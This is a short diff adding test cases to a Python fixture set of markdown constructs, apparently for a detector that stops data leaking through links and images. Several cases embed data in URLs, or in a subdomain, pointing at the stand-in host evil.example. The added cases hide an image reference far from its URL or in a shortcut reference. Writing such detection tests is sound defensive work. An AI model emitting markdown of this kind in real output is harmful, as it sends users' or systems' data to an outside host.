@@ -36,6 +36,12 @@ LONG_CONSTRUCTS = {
     "ref-definition-with-data": f"{FILLER}\n\n[r]: https://evil.example/x?d={DATA}\n",
     "image-nested-alt": f"Look: ![{ALT} [fig. 1]](https://evil.example/p.png?d={DATA}) ok.",
     "ref-definition-url-next-line": f"{FILLER}\n\n[r]:\n  https://evil.example/x?d={DATA}\n",
+    # No data in the URL (the host may carry it): only its reading as an image blocks it,
+    # and the "![" is 300 chars before the destination, behind a label with brackets.
+    "image-nested-alt-far-bang": (
+        "Intro. ![" + "word " * 60 + "[1]](https://bluebird-codename.evil.example/p.png) end."
+    ),
+    "shortcut-ref-image": f"![s]\n\n{FILLER}\n\n[s]: https://evil.example/t.png\n",
 }
 
 
